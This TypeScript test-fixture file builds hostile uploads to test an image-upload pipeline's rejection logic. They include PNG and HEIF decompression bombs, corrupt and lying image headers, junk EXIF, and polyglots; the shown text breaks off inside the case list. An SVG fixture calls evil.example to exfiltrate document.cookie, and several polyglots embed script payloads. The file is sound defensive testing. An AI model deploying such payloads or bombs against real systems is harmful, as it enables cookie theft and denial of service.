// Hostile uploads made by code: files that are not pictures, pictures we refuse, and pictures
// broken or bent on purpose (decompression bombs, lying headers, corrupt data, junk EXIF,
// polyglots). Every byte is generated here, deterministically, with sharp, zlib and Buffer
// surgery; nothing is read from disk. Used by tests/unit/hostile.test.ts and
// tests/integration/hostile.test.ts.
import zlib from 'node:zlib';
import sharp from 'sharp';
import type { ImageKind } from '#shared/media/sniff';
import * as iso from './heif-fixtures';

export type DeclaredType = 'image/jpeg' | 'image/png' | 'image/webp' | 'image/heic' | 'image/heif';

export interface HostileFile {
  /** Short, stable, sortable name (the number is the case in the issue's list). */
  name: string;
  /** What the file is and why it is hostile. */
  description: string;
  /** The Content-Type an app declares for it (one the API accepts). */
  declaredType: DeclaredType;
  /** The size declared to POST /content when it cannot be the true one (the API refuses 0). */
  declaredSize?: number;
  data: Buffer;
  /** What `sniffImageKind` must say about the bytes. */
  sniffsAs: ImageKind | undefined;
  /**
   * `reject`: must end REJECTED with a reason and no derivative; counts toward the acceptance's 15.
   * `tolerate`: a picture that really decodes despite the hostile part; READY (re-encoded, its
   * metadata dropped) is a defensible outcome, REJECTED too. Never counted toward the 15.
   */
  expect: 'reject' | 'tolerate';
  /** For `reject`: what the reason must say (beyond being non-empty). */
  reason?: RegExp;
}

// ---------------------------------------------------------------- building blocks

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

/** CRC-32 (ISO 3309), as PNG chunks and ZIP entries use it. */
export function crc32(data: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** A deterministic byte stream (xorshift32): the same junk on every run. */
export function junk(length: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

const u16be = (v: number) => Buffer.from([(v >>> 8) & 0xff, v & 0xff]);
const u32be = (v: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(v >>> 0);
  return b;
};
const latin1 = (s: string) => Buffer.from(s, 'latin1');

export const PNG_SIGNATURE = latin1('\x89PNG\r\n\x1a\n');

export function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([latin1(type), data]);
  return Buffer.concat([u32be(data.length), typed, u32be(crc32(typed))]);
}

export interface PngChunkInfo {
  type: string;
  offset: number;
  length: number;
  crcOk: boolean;
}

/** The chunks of a PNG as they are laid out (stops at the end of the data, even mid-chunk). */
export function pngChunks(png: Buffer): PngChunkInfo[] {
  const chunks: PngChunkInfo[] = [];
  for (let at = 8; at + 8 <= png.length; ) {
    const length = png.readUInt32BE(at);
    const type = png.subarray(at + 4, at + 8).toString('latin1');
    const end = at + 12 + length;
    const crcOk = end <= png.length && png.readUInt32BE(end - 4) === crc32(png.subarray(at + 4, end - 4));
    chunks.push({ type, offset: at, length, crcOk });
    at = end;
  }
  return chunks;
}

/** The dimensions an IHDR chunk declares. */
export function pngDimensions(png: Buffer): { width: number; height: number } {
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
}

/**
 * A greyscale PNG of zeros, deflated row block by row block so a huge image never exists in
 * memory: 20000x20000 at 1 bit per pixel is 50 MB of scanlines and about 50 KB on disk.
 */
export async function zeroPng(width: number, height: number, bitDepth: 1 | 8 = 1): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8); // filter byte + pixels
  const rowsPerBlock = Math.max(1, Math.floor((4 * 1024 * 1024) / rowBytes));
  const block = Buffer.alloc(rowsPerBlock * rowBytes);
  const deflate = zlib.createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise<void>((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  for (let left = height; left > 0; ) {
    const rows = Math.min(rowsPerBlock, left);
    left -= rows;
    if (!deflate.write(rows === rowsPerBlock ? block : block.subarray(0, rows * rowBytes)))
      await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', Buffer.concat(parts)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export interface JpegSegment {
  marker: number;
  offset: number;
  /** Length field (includes its own two bytes); 0 for SOI/EOI. */
  length: number;
}

/** The marker segments of a JPEG up to and including the first SOS (entropy data is not walked). */
export function jpegSegments(jpeg: Buffer): JpegSegment[] {
  const segments: JpegSegment[] = [];
  let at = 0;
  while (at + 1 < jpeg.length) {
    if (jpeg[at] !== 0xff) break;
    const marker = jpeg[at + 1]!;
    if (marker === 0xd8 || marker === 0xd9) {
      segments.push({ marker, offset: at, length: 0 });
      at += 2;
      if (marker === 0xd9) break;
      continue;
    }
    if (at + 3 >= jpeg.length) break;
    const length = jpeg.readUInt16BE(at + 2);
    segments.push({ marker, offset: at, length });
    if (marker === 0xda) break;
    at += 2 + length;
  }
  return segments;
}

/** Where the entropy-coded data of the first scan begins, and where the file's EOI is. */
export function jpegScan(jpeg: Buffer): { start: number; end: number } {
  const sos = jpegSegments(jpeg).find((s) => s.marker === 0xda);
  if (!sos) throw new Error('no SOS segment');
  return { start: sos.offset + 2 + sos.length, end: jpeg.length - 2 };
}

/** The dimensions a JPEG's SOFn segment declares. */
export function jpegDeclaredSize(jpeg: Buffer): { width: number; height: number } | undefined {
  const sof = jpegSegments(jpeg).find(
    (s) => s.marker >= 0xc0 && s.marker <= 0xcf && ![0xc4, 0xc8, 0xcc].includes(s.marker),
  );
  return sof ? { height: jpeg.readUInt16BE(sof.offset + 5), width: jpeg.readUInt16BE(sof.offset + 7) } : undefined;
}

function segment(marker: number, payload: Buffer): Buffer {
  if (payload.length + 2 > 0xffff) throw new Error(`segment payload too long: ${payload.length}`);
  return Buffer.concat([Buffer.from([0xff, marker]), u16be(payload.length + 2), payload]);
}

const JFIF_APP0 = segment(
  0xe0,
  Buffer.from([0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
);

/** Inserts segments right after SOI. */
function withSegments(jpeg: Buffer, ...segments: Buffer[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** A real photo-like JPEG (noise compresses like a photo, so there is entropy data to damage). */
export function photoJpeg(width = 800, height = 600, quality = 85): Promise<Buffer> {
  return sharp({
    create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 30 } },
  })
    .jpeg({ quality })
    .toBuffer();
}

/** A tiny, clean JPEG (no metadata) to hang hostile EXIF on. */
export function tinyJpeg(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#3366cc' } })
    .jpeg()
    .toBuffer();
}

// ---------------------------------------------------------------- EXIF (TIFF) blocks

interface IfdEntry {
  tag: number;
  type: number;
  count: number;
  /** The 4-byte value/offset field. */
  value: number;
}

/** A little-endian TIFF structure: header, IFD0 at 8 with the given entries and next-IFD offset. */
function tiffBlock(entries: IfdEntry[], nextIfd: number, ifd0Offset = 8, trailer = Buffer.alloc(0)): Buffer {
  const header = Buffer.from([0x49, 0x49, 0x2a, 0x00, 0, 0, 0, 0]);
  header.writeUInt32LE(ifd0Offset >>> 0, 4);
  const ifd = Buffer.alloc(2 + entries.length * 12 + 4);
  ifd.writeUInt16LE(entries.length & 0xffff, 0);
  entries.forEach((e, i) => {
    const at = 2 + i * 12;
    ifd.writeUInt16LE(e.tag & 0xffff, at);
    ifd.writeUInt16LE(e.type & 0xffff, at + 2);
    ifd.writeUInt32LE(e.count >>> 0, at + 4);
    ifd.writeUInt32LE(e.value >>> 0, at + 8);
  });
  ifd.writeUInt32LE(nextIfd >>> 0, 2 + entries.length * 12);
  return Buffer.concat([header, ifd, trailer]);
}

const EXIF_ID = latin1('Exif\0\0');
/** The largest APP1 payload a JPEG segment can carry (the length field counts itself). */
export const MAX_SEGMENT_PAYLOAD = 0xffff - 2;

/** ~64 KB of junk IFD0 entries: random tags, types (valid and not), counts and offsets. */
export function hugeExifBlock(): Buffer {
  const room = MAX_SEGMENT_PAYLOAD - EXIF_ID.length - 8 - 2 - 4;
  const count = Math.floor(room / 12);
  const noise = junk(count * 12, 0x5eed);
  const entries: IfdEntry[] = [];
  for (let i = 0; i < count; i++) {
    const at = i * 12;
    entries.push({
      tag: noise.readUInt16LE(at),
      type: noise.readUInt16LE(at + 2) % 16,
      count: noise.readUInt32LE(at + 4),
      value: noise.readUInt32LE(at + 8),
    });
  }
  return Buffer.concat([EXIF_ID, tiffBlock(entries, 0)]);
}

/**
 * EXIF whose structure lies: the sub-IFD pointers and the next-IFD pointer loop back to IFD0,
 * string values point far outside the segment, a GPS IFD claims 65535 entries, the orientation
 * is out of range.
 */
export function loopingExifBlock(): Buffer {
  const gpsAt = 8 + 2 + 8 * 12 + 4; // right after IFD0
  const entries: IfdEntry[] = [
    { tag: 0x010f, type: 2, count: 0x7fffffff, value: 0xffffff00 }, // Make: 2 GB string, far away
    { tag: 0x0110, type: 2, count: 64, value: 0x00fffff0 }, // Model: outside the segment
    { tag: 0x0112, type: 3, count: 1, value: 9 }, // Orientation 9 (valid: 1-8)
    { tag: 0x0132, type: 2, count: 20, value: 0xfffffff0 }, // DateTime: outside, wraps around 32 bits
    { tag: 0x8769, type: 4, count: 1, value: 8 }, // Exif IFD -> IFD0 (a loop)
    { tag: 0x8825, type: 4, count: 1, value: gpsAt }, // GPS IFD -> a 65535-entry claim
    { tag: 0xa005, type: 4, count: 1, value: 0xfffffff8 }, // Interop IFD: outside
    { tag: 0x927c, type: 7, count: 0xffffffff, value: 8 }, // MakerNote: 4 GB at IFD0
  ];
  // The GPS IFD: claims 65535 entries, holds two, then a pointer back to IFD0.
  const gps = Buffer.alloc(2 + 2 * 12 + 4);
  gps.writeUInt16LE(0xffff, 0);
  gps.writeUInt16LE(0x0002, 2); // GPSLatitude, RATIONAL x 3, outside
  gps.writeUInt16LE(5, 4);
  gps.writeUInt32LE(3, 6);
  gps.writeUInt32LE(0xfffffff0, 10);
  gps.writeUInt16LE(0x8769, 14); // a sub-IFD pointer inside GPS: back to IFD0
  gps.writeUInt16LE(4, 16);
  gps.writeUInt32LE(1, 18);
  gps.writeUInt32LE(8, 22);
  gps.writeUInt32LE(8, 26); // next IFD: IFD0 again
  return Buffer.concat([EXIF_ID, tiffBlock(entries, 8, 8, gps)]);
}

/** EXIF whose header points IFD0 beyond the end of the segment. */
export function outOfBoundsExifBlock(): Buffer {
  return Buffer.concat([
    EXIF_ID,
    tiffBlock([{ tag: 0x010f, type: 2, count: 4, value: 0x41414141 }], 0xffffffff, 0xfffffff0),
  ]);
}

// ---------------------------------------------------------------- the files

export const zeroBytes = (): Buffer => Buffer.alloc(0);

export const plainText = (): Buffer =>
  latin1('Dear diary,\nthis is a text file an app uploads as image/jpeg.\n'.repeat(20));

/** A minimal but well-formed one-page PDF (xref offsets computed). */
export function pdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
  ];
  const stream = 'BT /F1 12 Tf 20 100 Td (not a picture) Tj ET';
  objects.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return latin1(body);
}

/** An SVG that a browser would run script from; sharp (librsvg) would happily rasterise it. */
export const svgWithScript = (): Buffer =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="fetch('https://evil.example/?c='+document.cookie)">
  <script type="text/javascript"><![CDATA[ alert(document.domain); ]]></script>
  <rect width="64" height="64" fill="#c00"/>
</svg>
`,
  );

export const gif = (): Promise<Buffer> =>
  sharp({ create: { width: 32, height: 24, channels: 3, background: '#00aa55' } })
    .gif()
    .toBuffer();

/** Three 32x24 frames, looping forever. */
export const animatedWebp = (): Promise<Buffer> =>
  sharp({
    create: {
      width: 32,
      height: 72,
      channels: 3,
      background: '#aa3300',
      pageHeight: 24,
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .webp({ loop: 0, delay: [100, 100, 100] })
    .toBuffer();

export const tiff = (): Promise<Buffer> =>
  sharp({ create: { width: 32, height: 24, channels: 3, background: '#336699' } })
    .tiff()
    .toBuffer();

/** A 4x4 24-bit BMP, by hand (sharp cannot write BMP). */
export function bmp(width = 4, height = 4): Buffer {
  const rowBytes = Math.ceil((width * 3) / 4) * 4;
  const pixels = Buffer.alloc(rowBytes * height, 0x7f);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await photoJpeg();
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** 4 KB of the scan's entropy-coded data, in the middle, overwritten with junk; markers intact. */
export async function corruptEntropyJpeg(): Promise<Buffer> {
  const out = Buffer.from(await photoJpeg());
  const { start, end } = jpegScan(out);
  const at = Math.floor((start + end) / 2);
  // No 0xFF in the junk: a stray marker would end the scan early; this is damage the decoder
  // can only notice, if at all, from the Huffman codes themselves.
  const damage = junk(4096, 0xbad);
  for (const [i, b] of damage.entries()) if (b === 0xff) damage[i] = 0x00;
  damage.copy(out, at);
  return out;
}

/** The bytes right after the SOS marker (the scan header) overwritten: the scan names a component that does not exist. */
export async function corruptScanHeaderJpeg(): Promise<Buffer> {
  const out = Buffer.from(await photoJpeg());
  const sos = jpegSegments(out).find((s) => s.marker === 0xda)!;
  // Ns, then (Cs, Td/Ta) per component: make every component selector 0xEE.
  const ns = out[sos.offset + 4]!;
  for (let i = 0; i < ns; i++) out[sos.offset + 5 + i * 2] = 0xee;
  return out;
}

/** SOI, a JFIF APP0 and an EXIF APP1, then the end: no frame, no scan, no picture. */
export function jpegWithoutImage(): Buffer {
  const exif = Buffer.concat([EXIF_ID, tiffBlock([{ tag: 0x010f, type: 2, count: 4, value: 0x0041494e }], 0)]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), JFIF_APP0, segment(0xe1, exif)]);
}

/** 20000x20000 (400 MP) of zeros in about 50 KB. */
export const pngBomb = (): Promise<Buffer> => zeroPng(20_000, 20_000, 1);

/** A real 16x16 JPEG whose frame header claims 65500x65500. */
export async function jpegClaimingHuge(): Promise<Buffer> {
  const out = Buffer.from(await tinyJpeg(16, 16));
  const sof = jpegSegments(out).find((s) => s.marker === 0xc0 || s.marker === 0xc2)!;
  out.writeUInt16BE(65_500, sof.offset + 5);
  out.writeUInt16BE(65_500, sof.offset + 7);
  return out;
}

function noisyPng(): Promise<Buffer> {
  return sharp({
    create: {
      width: 128,
      height: 96,
      channels: 3,
      background: '#446688',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .png({ compressionLevel: 6 })
    .toBuffer();
}

/** A real PNG whose IDAT checksum is wrong (one byte of compressed data changed, CRC kept). */
export async function pngBadCrc(): Promise<Buffer> {
  const out = Buffer.from(await noisyPng());
  const idat = pngChunks(out).find((c) => c.type === 'IDAT')!;
  const at = idat.offset + 8 + Math.floor(idat.length / 2);
  out[at] = out[at]! ^ 0x55;
  return out;
}

/** A real PNG cut in the middle of its IDAT chunk. */
export async function pngTruncatedIdat(): Promise<Buffer> {
  const whole = await noisyPng();
  const idat = pngChunks(whole).find((c) => c.type === 'IDAT')!;
  return whole.subarray(0, idat.offset + 8 + Math.floor(idat.length / 2));
}

export const POLYGLOT_SCRIPT = '<script>alert(document.domain)</script>';

/** A JPEG header (SOI, JFIF APP0, a COM segment) followed by an HTML page with a script: no picture. */
export function jpegHtmlPolyglot(): Buffer {
  const html = `<!doctype html><html><body>${POLYGLOT_SCRIPT}</body></html>\n`;
  return Buffer.concat([Buffer.from([0xff, 0xd8]), JFIF_APP0, segment(0xfe, latin1(`-->${html}<!--`)), latin1(html)]);
}

/**
 * A file that is both a GIF and JavaScript: the logical screen width bytes are "/*", so
 * `GIF89a/* ...binary... *\/=1;alert(...)` parses as a script.
 */
export async function gifJsPolyglot(): Promise<Buffer> {
  const real = await gif();
  const body = Buffer.from(real.subarray(6));
  body[0] = 0x2f; // '/'
  body[1] = 0x2a; // '*' -> width 10799
  if (body.includes(latin1('*/'))) throw new Error('the GIF body happens to contain */');
  return Buffer.concat([latin1('GIF89a'), body, latin1('*/=1;alert(document.domain);//')]);
}

/** A minimal stored (uncompressed) ZIP with one entry, by hand. */
export function zipWith(name: string, content: Buffer): Buffer {
  const nameBytes = latin1(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localPart = Buffer.concat([local, nameBytes, content]);
  const centralPart = Buffer.concat([central, nameBytes]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

export const ZIP_PAYLOAD_NAME = 'payload.js';

/** A complete, valid JPEG with a ZIP (holding a script) appended: a picture and an archive at once. */
export async function jpegZipPolyglot(): Promise<Buffer> {
  return Buffer.concat([
    await tinyJpeg(96, 64),
    zipWith(ZIP_PAYLOAD_NAME, latin1(`alert(document.domain);\n${POLYGLOT_SCRIPT}\n`)),
  ]);
}

/** A valid tiny JPEG carrying an APP1 of ~64 KB of junk IFD0 entries. */
export async function hugeExifJpeg(): Promise<Buffer> {
  return withSegments(await tinyJpeg(), segment(0xe1, hugeExifBlock()));
}

/** A valid JPEG whose EXIF loops back on itself and points outside its segment. */
export async function loopingExifJpeg(): Promise<Buffer> {
  return withSegments(await tinyJpeg(), segment(0xe1, loopingExifBlock()));
}

/** A valid JPEG whose EXIF header points IFD0 past the end of the segment (and of the file). */
export async function outOfBoundsExifJpeg(): Promise<Buffer> {
  return withSegments(await tinyJpeg(), segment(0xe1, outOfBoundsExifBlock()));
}

/** A real WebP whose RIFF header claims ~2 GB, i.e. far more data than the file has. */
export async function webpRiffSizeTooLarge(): Promise<Buffer> {
  const out = Buffer.from(
    await sharp({ create: { width: 64, height: 48, channels: 3, background: '#993366' } })
      .webp()
      .toBuffer(),
  );
  out.writeUInt32LE(0x7ffffff0, 4);
  return out;
}

/** A real WebP whose RIFF header claims less data than its VP8 chunk holds. */
export async function webpRiffSizeTooSmall(): Promise<Buffer> {
  const out = Buffer.from(
    await sharp({
      create: {
        width: 64,
        height: 48,
        channels: 3,
        background: '#993366',
        noise: { type: 'gaussian', mean: 128, sigma: 30 },
      },
    })
      .webp()
      .toBuffer(),
  );
  out.writeUInt32LE(24, 4);
  return out;
}

/** An ISO-BMFF `ftyp heic` box (brands heic, mif1) and 4 KB of junk: HEIC on the outside only. */
export function heicGarbage(): Buffer {
  const ftyp = Buffer.concat([latin1('ftypheic'), u32be(0), latin1('mif1heicmiaf')]);
  return Buffer.concat([u32be(ftyp.length + 4), ftyp, junk(4096, 0x4ea1c)]);
}

// HEIF headers whose counts reach past their boxes: a few kilobytes that once cost hundreds of
// megabytes of objects to read, and a box of size 0 that once sent exifr into an endless loop.
const heicHeader = (...children: Buffer[]) =>
  Buffer.concat([
    iso.box('ftyp', latin1('heic'), u32be(0), latin1('mif1heic')),
    iso.fullBox('meta', 0, 0, [iso.fullBox('pitm', 0, 0, [iso.u16(1)]), ...children]),
  ]);

/** iloc v1 with zero-byte fields: 2000 items of 65535 extents each, in 16 KB. */
export const heicIlocAmplifier = (): Buffer =>
  heicHeader(
    iso.fullBox('iloc', 1, 0, [
      iso.u8(0),
      iso.u8(0),
      iso.u16(2000),
      ...Array.from({ length: 2000 }, (_, i) =>
        Buffer.concat([iso.u16(i + 1), iso.u16(0), iso.u16(0), iso.u16(65535)]),
      ),
    ]),
  );

/** 1000 iref `cdsc` references claiming 65535 targets each, in 12 KB. */
export const heicIrefAmplifier = (): Buffer =>
  heicHeader(
    iso.fullBox(
      'iref',
      0,
      0,
      Array.from({ length: 1000 }, () => iso.box('cdsc', iso.u16(1), iso.u16(65535))),
    ),
  );

/** ftyp heic, then a box of size 0 ("to the end of the file") and junk. */
export const heicEndlessBox = (): Buffer =>
  Buffer.concat([
    iso.box('ftyp', latin1('heic'), u32be(0), latin1('mif1heic')),
    u32be(0),
    latin1('free'),
    junk(2048, 0x5eed),
  ]);

/** 1x100,000,000: exactly the 100 MP limit, but beyond libvips's 10,000,000-pixel side limit. */
export const extremeAspectPng = (): Promise<Buffer> => zeroPng(1, 100_000_000, 1);

/** 1x10,000,000: within every limit (10 MP, sides within libvips's), proportions absurd. */
export const tallStripPng = (): Promise<Buffer> => zeroPng(1, 10_000_000, 8);

/** 1x1440: 138 bytes, a legal size, and the proportions that make a square crop expensive. */
export const thinStripPng = (): Promise<Buffer> =>
  sharp({ create: { width: 1, height: 1440, channels: 3, background: '#336699' } })
    .png()
    .toBuffer();

/** A good picture, unlike any other (noise seeded by `seed`), so exact-duplicate detection never applies. */
export function goodJpeg(seed: number, width = 640, height = 480): Promise<Buffer> {
  const hue = (seed * 47) % 360;
  return sharp({
    create: {
      width,
      height,
      channels: 3,
      background: `hsl(${hue}, 60%, 50%)`,
      noise: { type: 'gaussian', mean: 128, sigma: 20 },
    },
  })
    .composite([{ input: junk(64 * 48 * 3, seed + 1), raw: { width: 64, height: 48, channels: 3 }, top: 10, left: 10 }])
    .jpeg({ quality: 85 })
    .toBuffer();
}

/** The whole suite, in the issue's order. */
function hostileCases(): HostileCase[] {
  const notImage = /not a supported image/i;
  const decode = /could not decode/i;
  return [
    {
      name: '01-zero-bytes',
      description: 'an empty file',
      declaredType: 'image/jpeg',
      declaredSize: 1,
      make: zeroBytes,
      sniffsAs: undefined,
      expect: 'reject',
      reason: /empty|not a supported image/i,
    },
    {
      name: '02-text-as-jpeg',
      description: 'plain text declared image/jpeg',
      declaredType: 'image/jpeg',
      make: plainText,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '03-pdf',
      description: 'a one-page PDF',
      declaredType: 'image/jpeg',
      make: pdf,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '04-svg-script',
      description: 'an SVG with a script, declared image/png',
      declaredType: 'image/png',
      make: svgWithScript,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '05-gif',
      description: 'a GIF (not an accepted format)',
      declaredType: 'image/jpeg',
      make: gif,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '06-animated-webp',
      description: 'an animated WebP, 3 frames',
      declaredType: 'image/webp',
      make: animatedWebp,
      sniffsAs: 'webp',
      expect: 'reject',
      reason: /animated/i,
    },
    {
      name: '07-tiff',
      description: 'a TIFF',
      declaredType: 'image/jpeg',
      make: tiff,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '08-bmp',
      description: 'a BMP',
      declaredType: 'image/png',
      make: bmp,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '09-truncated-jpeg',
      description: 'the first half of a JPEG',
      declaredType: 'image/jpeg',
      make: truncatedJpeg,
      sniffsAs: 'jpeg',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '10a-jpeg-corrupt-entropy',
      description: '4 KB of scan data overwritten mid-file (markers intact)',
      declaredType: 'image/jpeg',
      make: corruptEntropyJpeg,
      sniffsAs: 'jpeg',
      expect: 'tolerate',
    },
    {
      name: '10b-jpeg-corrupt-scan-header',
      description: 'bytes right after SOS overwritten (bad component ids)',
      declaredType: 'image/jpeg',
      make: corruptScanHeaderJpeg,
      sniffsAs: 'jpeg',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '11-jpeg-no-image',
      description: 'SOI + APP0 + APP1 only, no frame or scan',
      declaredType: 'image/jpeg',
      make: jpegWithoutImage,
      sniffsAs: 'jpeg',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '12-png-bomb',
      description: '20000x20000 zeros (400 MP) in ~50 KB',
      declaredType: 'image/png',
      make: pngBomb,
      sniffsAs: 'png',
      expect: 'reject',
      reason: /too large.*limit is 100 megapixels/i,
    },
    {
      name: '13-jpeg-claims-65500',
      description: '16x16 JPEG whose SOF claims 65500x65500',
      declaredType: 'image/jpeg',
      make: jpegClaimingHuge,
      sniffsAs: 'jpeg',
      expect: 'reject',
      reason: /too large/i,
    },
    {
      name: '14a-png-bad-crc',
      description: 'PNG with an IDAT byte changed, CRC kept',
      declaredType: 'image/png',
      make: pngBadCrc,
      sniffsAs: 'png',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '14b-png-truncated-idat',
      description: 'PNG cut in the middle of IDAT',
      declaredType: 'image/png',
      make: pngTruncatedIdat,
      sniffsAs: 'png',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '15a-jpeg-html-polyglot',
      description: 'JPEG header, then an HTML page with a script',
      declaredType: 'image/jpeg',
      make: jpegHtmlPolyglot,
      sniffsAs: 'jpeg',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '15b-gif-js-polyglot',
      description: 'a file that is both a GIF and JavaScript',
      declaredType: 'image/png',
      make: gifJsPolyglot,
      sniffsAs: undefined,
      expect: 'reject',
      reason: notImage,
    },
    {
      name: '15c-jpeg-zip-polyglot',
      description: 'a valid JPEG with a ZIP (script inside) appended',
      declaredType: 'image/jpeg',
      make: jpegZipPolyglot,
      sniffsAs: 'jpeg',
      expect: 'tolerate',
    },
    {
      name: '16-huge-exif',
      description: 'tiny JPEG + ~64 KB APP1 of junk IFD entries',
      declaredType: 'image/jpeg',
      make: hugeExifJpeg,
      sniffsAs: 'jpeg',
      expect: 'tolerate',
    },
    {
      name: '17a-exif-loops',
      description: 'JPEG + EXIF with IFD loops and offsets outside',
      declaredType: 'image/jpeg',
      make: loopingExifJpeg,
      sniffsAs: 'jpeg',
      expect: 'tolerate',
    },
    {
      name: '17b-exif-ifd0-outside',
      description: 'JPEG + EXIF whose IFD0 offset is past the end',
      declaredType: 'image/jpeg',
      make: outOfBoundsExifJpeg,
      sniffsAs: 'jpeg',
      expect: 'tolerate',
    },
    {
      name: '18a-webp-riff-too-large',
      description: 'WebP whose RIFF size claims ~2 GB',
      declaredType: 'image/webp',
      make: webpRiffSizeTooLarge,
      sniffsAs: 'webp',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '18b-webp-riff-too-small',
      description: 'WebP whose RIFF size is smaller than its chunk',
      declaredType: 'image/webp',
      make: webpRiffSizeTooSmall,
      sniffsAs: 'webp',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '19-heic-garbage',
      description: 'ftyp heic box + 4 KB of junk',
      declaredType: 'image/heic',
      make: heicGarbage,
      sniffsAs: 'heif',
      expect: 'reject',
    },
    {
      name: '20a-png-1x100000000',
      description: '1x100,000,000 PNG (100 MP, absurd aspect)',
      declaredType: 'image/png',
      make: extremeAspectPng,
      sniffsAs: 'png',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '19b-heic-iloc-amplifier',
      description: 'HEIF iloc: 131 M zero-byte extents in 16 KB',
      declaredType: 'image/heic',
      make: heicIlocAmplifier,
      sniffsAs: 'heif',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '19c-heic-iref-amplifier',
      description: 'HEIF iref: 65 M references in 12 KB',
      declaredType: 'image/heic',
      make: heicIrefAmplifier,
      sniffsAs: 'heif',
      expect: 'reject',
      reason: decode,
    },
    {
      name: '19d-heic-endless-box',
      description: 'ftyp heic, then a box of size 0',
      declaredType: 'image/heic',
      make: heicEndlessBox,
      sniffsAs: 'heif',
